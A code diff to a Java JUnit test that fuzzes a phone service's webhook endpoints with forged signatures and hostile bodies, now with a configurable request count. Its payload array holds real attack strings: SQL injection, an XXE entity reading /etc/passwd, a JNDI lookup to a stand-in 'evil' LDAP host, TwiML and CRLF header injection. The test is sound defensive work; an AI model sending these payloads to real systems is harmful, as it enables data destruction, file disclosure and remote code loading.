@@ -36,7 +36,8 @@ import java.util.stream.Collectors;
 import org.junit.jupiter.api.Test;
 
 /**
- * Generated hostile traffic: 10,000 requests per gateway endpoint, from a seeded generator (rerun with
+ * Generated hostile traffic: {@code -Dhostile.requests} (5,000 in verify, 50,000 with -Pthorough) spread over the
+ * gateway's endpoints, from a seeded generator (rerun with
  * -Dhostile.seed=N to reproduce one). Half carry missing, stale or forged signatures around junk bodies; half are
  * correctly signed but carry injection strings, odd number formats, invalid UTF-8, thousands of parameters or
  * wrong content types. Expected: never a 5xx, nothing published for a bad signature, and a healthy service after.
@@ -50,11 +51,11 @@ class HostileInputTest {
         ai.galaxyco.phone.testsupport.OpenApiContract.assertServedEqualsCommitted(operations);
     }
 
-    static final int PER_ENDPOINT = 10_000;
     static final String KEY = "PSK_test_signing_key";
     static final String CLERK_SECRET = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";
     static final String PUBLIC = "https://phone.galaxyco.test/api/webhooks/signalwire";
     static final List<String> ENDPOINTS = List.of("clerk", "sms", "voice", "voice/recording", "status");
+    static final int PER_ENDPOINT = Integer.getInteger("hostile.requests", 5_000) / ENDPOINTS.size();
     static final String[] NASTY = {"'; DROP TABLE message; --", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
         "{\"$ne\": null}", "</Response><Dial>+19005550100</Dial>", "${jndi:ldap://evil/x}", "\u0000\u0001\u0002", "😀🔥𝕏",
         "%00%0d%0aSet-Cookie: x=y", "A".repeat(5000), "\\\"\\\\", "null", "[]", "-1", "1e999", "NaN", ""};
